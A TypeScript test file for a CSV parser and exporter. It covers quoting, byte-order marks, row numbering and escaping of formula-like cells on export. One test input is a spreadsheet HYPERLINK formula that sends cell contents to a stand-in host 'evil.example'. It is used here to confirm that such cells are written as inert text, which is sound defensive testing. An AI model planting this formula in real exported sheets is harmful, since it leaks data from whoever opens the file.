import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvOf, parseCsv, sheetRowsOf } from './csv.ts'

it('reads what spreadsheets write', () => {
  const text = '\uFEFFname,city\r\n"St. Mary\'s, Pune",Pune\r\n\r\n"He said ""yes""",\n'
  expect(parseCsv(text)).toEqual([
    ['name', 'city'],
    ["St. Mary's, Pune", 'Pune'],
    ['He said "yes"', ''],
  ])
})

it('names the cells by the first line', () => {
  expect(sheetRowsOf('name, city\nDAV ,Ranchi\nKV\n')).toEqual([
    { row: 2, cells: { name: 'DAV', city: 'Ranchi' } },
    { row: 3, cells: { name: 'KV', city: '' } },
  ])
})

it('reads back every table, with any text in its cells', () => {
  const cell = fc.string().filter((text) => !text.includes('\uFEFF') && !/^'+[=+\-@\t\r]/.test(text))
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell, fc.constant('x')), { minLength: 1 }), (table) => {
      expect(parseCsv(table.map((line) => line.map(quoted).join()).join('\r\n'))).toEqual(table)
    }),
  )
})

it('tells the line with a quote in the middle', () => {
  expect(() => parseCsv('a,b\nc,d"e\n')).toThrow('line 2')
})

describe('an exported sheet', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+1', "'+1"],
    ['-x', "'-x"],
    ["'=1", "''=1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('writes %j as text', (name, cell) => {
    expect(csvOf([{ name }])).toBe(`\uFEFFname\r\n${cell}`)
  })

  it('is read back as it was, also where a text begins like a formula', () => {
    const start = fc.constantFrom("'", "''", '=', '+', '-', '@', '\t', '\r', '-5', '+5', '+91 98765 43210', '0')
    const text = fc.tuple(start, fc.string()).map((parts) => parts.join(''))
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (table) => {
        const [, ...read] = parseCsv(csvOf(table.map(([a, b]) => ({ a, b, c: 'x' }))))
        expect(read).toEqual(table.map(([a, b]) => [a, b, 'x']))
      }),
    )
  })

  it('leaves a negative number as it is, and is known to Excel as Unicode', () => {
    expect(csvOf([{ option: '-5' }, { option: '-0.5' }])).toBe('\uFEFFoption\r\n-5\r\n-0.5')
  })

  it('leaves numbers, other texts and what is missing as they are', () => {
    expect(
      csvOf([
        { amount: -250, title: 'Class 11, "PLUS"', at: null },
        { amount: 0, more: true },
      ]),
    ).toBe('\uFEFFamount,title,at,more\r\n-250,"Class 11, ""PLUS""",,\r\n0,,,true')
  })

  it('gives each part of a field a column of its own, and a list one cell', () => {
    expect(csvOf([{ title: { en: 'Maths', hi: 'गणित' }, grades: [11, 12] }])).toBe(
      '\uFEFFtitle.en,title.hi,grades\r\nMaths,गणित,"[11,12]"',
    )
  })

  it('writes a heading that would be a formula as text too', () => {
    expect(csvOf([{ '=1': 'x' }])).toBe("\uFEFF'=1\r\nx")
  })
})

it('numbers rows as a spreadsheet does, also after empty ones', () => {
  expect(sheetRowsOf('name,city\r\n\r\nDAV,Pune\r\n,\r\nKV,"Delhi\nCantt"\r\n')).toEqual([
    { row: 3, cells: { name: 'DAV', city: 'Pune' } },
    { row: 5, cells: { name: 'KV', city: 'Delhi\nCantt' } },
  ])
  expect(sheetRowsOf('')).toEqual([])
})
